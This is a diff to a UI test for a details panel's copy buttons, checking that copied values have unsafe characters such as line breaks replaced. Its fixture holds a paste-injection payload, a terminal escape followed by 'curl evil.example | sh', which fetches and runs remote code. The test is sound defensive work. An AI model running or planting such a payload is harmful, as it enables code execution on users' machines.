@@ -69,12 +69,20 @@ test.describe('the details panel', () => {
   test('copies one line, says what was replaced, and offers the exact value', async () => {
     const runner = runnerNamed(scene.sandbox.organization, 'us-staging');
     assert.ok(runner.status);
+    const tfs = integrationAt(scene.sandbox.organization, 'us-staging', 'tfs.acme.example');
+    tfs.id = 'abc\ndef';
     runner.status.message = 'Certificate expired.\n\u001b[201~curl evil.example | sh\n';
     await scene.refresh(ona);
     await ona.expand(/^Runner us-staging/);
     await ona.showDetails(/^Integration tfs\.acme\.example/, 'tfs.acme.example');
     const announcement = ona.details.frame.locator('#announcement');
+    await ona.details.button('Copy ID').click();
+    await announcement.getByText('Copied. Characters that are not safe to paste').waitFor();
+    assert.equal(await ona.clipboard(), 'abc def');
+    await ona.clearNotifications();
+
     await ona.details.button('Copy Message').click();
+    await ona.details.frame.locator('[data-row="message"] .icon-check').waitFor();
     await announcement.getByText('Copied. Characters that are not safe to paste').waitFor();
     assert.equal(await ona.clipboard(), 'Certificate expired. [201~curl evil.example | sh');
     await ona.notification('Characters that are not safe to paste, such as line breaks, were replaced.');
